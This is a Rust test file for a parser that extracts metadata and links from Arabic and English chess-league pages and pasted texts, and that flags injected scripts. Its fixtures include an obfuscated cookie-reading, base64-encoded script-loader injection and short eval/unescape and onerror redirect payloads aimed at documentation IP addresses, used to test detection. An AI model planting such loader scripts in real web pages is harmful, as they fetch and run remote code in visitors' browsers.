//! Pages and pasted texts of an invented chess league.

use basira_text::page::{Incomplete, Page, Words, read};

fn text(words: Option<&Words>) -> Option<&str> {
    words.map(|words| words.text.as_str())
}

fn names(words: &[Words]) -> Vec<&str> {
    words.iter().map(|words| words.text.as_str()).collect()
}

fn body(page: &Page) -> String {
    page.body()
        .iter()
        .map(|part| &page.text()[part.clone()])
        .collect::<Vec<_>>()
        .join("\n")
}

const PARAGRAPH: &str = "أعلن اتحاد الشطرنج اليوم أن البطولة السنوية ستقام في المدينة القديمة بمشاركة أكثر من مئة لاعب ولاعبة من عشرين بلدا، وأن الدخول إليها مجاني للجميع طوال أيام البطولة السبعة.";

#[test]
fn a_page_is_taken_apart() {
    let file = format!(
        "<!doctype html><html><head><meta charset=utf-8><title>بطولة الشطرنج | النادي</title>\
         <meta property=\"og:site_name\" content=\"نادي الشطرنج\"><meta property='article:published_time' content='2018-07-19T21:32:00Z'>\
         <link rel=canonical href='https://example.com/news/1'>\
         <script type='application/ld+json'>{{\"author\":{{\"@type\":\"Person\",\"name\":\"\\u062f\\u0627\\u0646\\u0629\"}}}}</script>\
         <style>p{{}}</style></head><body><nav><a href='/'>الرئيسية</a><a href='/2'>الأخبار</a></nav>\
         <article><h1>بطولة الشطرنج</h1><p>{PARAGRAPH}<p>{PARAGRAPH} <a href='https://t.me/chess_league'>قناتنا</a></article>\
         <footer>جميع الحقوق محفوظة</footer><script>console.log('x.com/y')</script></body></html>"
    );
    let page = read(file.as_bytes());
    assert_eq!(text(page.title.as_ref()), Some("بطولة الشطرنج"));
    assert_eq!(text(page.publisher.as_ref()), Some("نادي الشطرنج"));
    assert_eq!(names(&page.authors), ["دانة"]);
    assert_eq!(
        page.date.as_ref().unwrap().iso.as_deref(),
        Some("2018-07-19T21:32")
    );
    assert_eq!(text(page.source.as_ref()), Some("https://example.com/news/1"));
    let body = body(&page);
    assert!(
        body.contains(PARAGRAPH) && !body.contains("الرئيسية") && !body.contains("الحقوق"),
        "{body}"
    );
    assert!(!page.text().contains("console"));
    assert_eq!(page.security, []);
    let found = page.findings();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(&file[found[0].span.clone()], "https://t.me/chess_league");
    // A span of the text is the same words in the file.
    let at = page.text().find("بمشاركة").unwrap();
    assert_eq!(&file[page.span(&(at..at + "بمشاركة".len()))], "بمشاركة");
}

#[test]
fn a_pasted_text_is_taken_apart() {
    for (front, title, author, publisher, date) in [
        (
            "مختارات\n\nحلم البطولة الكبرى\n\nبقلم: دانة الرخ\nالخميس 19/يوليه/2018 - 09:32 م\n",
            Some("حلم البطولة الكبرى"),
            Some("دانة الرخ"),
            None,
            Some("2018-07-19T21:32"),
        ),
        (
            "الكاتب: سامي البيدق\nالناشر: مركز دراسات الشطرنج، نقلا عن صحيفة\nايار-مايو 2018\n",
            None,
            Some("سامي البيدق"),
            Some("مركز دراسات الشطرنج"),
            Some("2018-05"),
        ),
        (
            "تصدر عن دار القلعة - بيروت\n\nبطولة الشطرنج.. رحلة البحث عن لقب\n\n12 رمضان 1439 هـ\nصورة أرشيفية\nليلى القلعة\nطباعة\n",
            Some("بطولة الشطرنج.. رحلة البحث عن لقب"),
            Some("ليلى القلعة"),
            Some("دار القلعة - بيروت"),
            Some("2018-05"),
        ),
        (
            "Open day of the league\nBy Dana Rook, chess editor\nJuly 19, 2018\n",
            Some("Open day of the league"),
            Some("Dana Rook"),
            None,
            Some("2018-07-19"),
        ),
        (
            "افتتاح بطولة الشطرنج السنوية\nنشر في: قبل يومين\n",
            Some("افتتاح بطولة الشطرنج السنوية"),
            None,
            None,
            None,
        ),
    ] {
        let file = format!("{front}\n{PARAGRAPH}\n\n{PARAGRAPH}\n\nمقالات ذات صلة\nخبر آخر\n");
        let page = read(file.as_bytes());
        assert_eq!(text(page.title.as_ref()), title, "{front}");
        assert_eq!(
            names(&page.authors),
            author.into_iter().collect::<Vec<_>>(),
            "{front}"
        );
        assert_eq!(text(page.publisher.as_ref()), publisher, "{front}");
        assert_eq!(
            page.date.as_ref().and_then(|date| date.iso.as_deref()),
            date,
            "{front}"
        );
        assert_eq!(body(&page), format!("{PARAGRAPH}\n\n{PARAGRAPH}"), "{front}");
        for words in page.title.iter().chain(&page.authors).chain(&page.publisher) {
            assert_eq!(&file[words.span.clone()], words.text);
        }
    }
    let page = read(format!("عنوان طويل للخبر\nنشر في: قبل يومين\n\n{PARAGRAPH}").as_bytes());
    let date = page.date.unwrap();
    assert_eq!((date.iso, date.words.as_str()), (None, "قبل يومين"));
}

#[test]
fn who_asks_is_the_author_of_an_interview() {
    let turns = "ليلى القلعة: ما رأيك في البطولة؟\n\nسامي البيدق: كانت ممتعة جدا بالنسبة لي.\n\nالقلعة: وماذا بعد؟\n\nالبيدق: نعود في العام المقبل إن شاء الله.\n";
    let page = read(format!("حوار عن الشطرنج اليوم\n\n{PARAGRAPH}\n\n{turns}").as_bytes());
    assert_eq!(
        (names(&page.authors), names(&page.interviewed)),
        (vec!["ليلى القلعة"], vec!["سامي البيدق"])
    );
}

/// What a page was made to load, in the wrappings of a well-known injection; it leads to an address kept for documentation.
const INJECTED: &str = "function pawn(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\\.$?*|{}\\(\\)])/g,”\\\\$1″)+”=([^;]*)”));\
return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQ3NjcmlwdCUyMHNyYyUzRCUyMmh0dHAlM0ElMkYlMkYxOTIuMC4yLjclMkZhQiUyMiUzRSUzQyUyRnNjcmlwdCUzRScpKTs=”;document.write(”)";

#[test]
fn an_injection_is_one_finding_and_leaves_nothing_behind() {
    for file in [
        format!("بطولة الشطرنج تبدأ غدا\n\n{PARAGRAPH}\nhttps://example.com/1\n{INJECTED}"),
        format!("{INJECTED}\n\nبطولة الشطرنج تبدأ غدا\n\n{PARAGRAPH}\nhttps://example.com/1"),
        format!(
            "<html><body><h1>بطولة الشطرنج تبدأ غدا</h1><p>{PARAGRAPH}</p>https://example.com/1<p>{}</p></body></html>",
            INJECTED.replace('<', "&lt;")
        ),
    ] {
        let page = read(file.as_bytes());
        assert_eq!(page.security.len(), 1, "{:?}", page.security);
        let finding = &page.security[0];
        assert_eq!(finding.indicator(), "hxxp://192[.]0[.]2[.]7/aB");
        assert_eq!(finding.addresses.len(), 1, "{finding:?}");
        assert_eq!(finding.steps, ["base64", "percent"]);
        assert!(
            file[finding.span.clone()].starts_with("function pawn")
                && file[finding.span.clone()].ends_with(')')
        );
        for gone in ["pawn", "document", "base64", "192.0.2.7"] {
            assert!(!page.text().contains(gone));
        }
        let found = page.findings();
        assert_eq!(
            (found.len(), found[0].normal.as_str()),
            (1, "https://example.com/1"),
            "{found:?}"
        );
        assert_eq!(text(page.title.as_ref()), Some("بطولة الشطرنج تبدأ غدا"));
    }
}

#[test]
fn a_script_of_a_page_is_named_only_if_it_hides_where_it_leads() {
    let page =
        |script: &str| read(format!("<html><body><p>{PARAGRAPH}</p>{script}</body></html>").as_bytes());
    assert_eq!(
        page(
            "<script src='https://example.com/a.js'></script><script>track('https://example.com/b')</script>"
        )
        .security,
        []
    );
    let hidden = page("<script>eval(unescape('%68%74%74%70%3a//192.0.2.7/a'))</script>");
    assert_eq!(hidden.security[0].indicator(), "hxxp://192[.]0[.]2[.]7/a");
    let pressed = page("<img src=x onerror=\"location='\\x68\\x74\\x74\\x70://192.0.2.8/b'\">");
    assert_eq!(pressed.security[0].indicator(), "hxxp://192[.]0[.]2[.]8/b");
}

#[test]
fn other_encodings_have_spans_of_their_own_bytes() {
    let story = format!("بطولة الشطرنج الكبرى\n\n{PARAGRAPH}\nhttps://example.com/1\n");
    let (windows, ..) = encoding_rs::WINDOWS_1256.encode(&story);
    let wide: Vec<u8> = story.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let address: Vec<u8> = "https://example.com/1"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (bytes, name, address) in [
        (&windows[..], "windows-1256", &b"https://example.com/1"[..]),
        (&wide, "UTF-16LE", &address),
    ] {
        let page = read(bytes);
        assert_eq!(page.encoding, name);
        assert_eq!(text(page.title.as_ref()), Some("بطولة الشطرنج الكبرى"));
        assert_eq!(&bytes[page.findings()[0].span.clone()], address);
        assert_eq!(page.incomplete, []);
    }
    let mut broken = story.into_bytes();
    broken.insert(1, 0xff);
    assert_eq!(read(&broken).incomplete, [Incomplete::BrokenText]);
}

/// In bytes of an unknown kind whatever looks like a link is chance.
#[test]
fn bytes_that_are_no_text_yield_nothing() {
    let mut state = 7_u64;
    let mut bytes: Vec<u8> = (0..200_000)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            (state >> 56) as u8
        })
        .collect();
    bytes[100_000..100_024].copy_from_slice(b" https://example.com/a  ");
    let page = read(&bytes);
    assert_eq!((page.findings(), page.text().len()), (Vec::new(), 0));
    assert_eq!(page.incomplete, [Incomplete::Binary]);
    // What stands before and after such a stretch is read, at its place.
    let line = "The rook league meets at https://example.com/day on Tuesday.\n";
    let text = line.repeat(1 + 4096 / line.len());
    let mut file = text.as_bytes()[..4096].to_vec();
    file.extend(&bytes[..8192]);
    file.extend(line.as_bytes());
    let page = read(&file);
    assert_eq!(page.incomplete, [Incomplete::Binary]);
    let last = page.findings().pop().unwrap();
    assert_eq!(&file[last.span.clone()], b"https://example.com/day");
    assert!(last.span.start > 12_000);
}
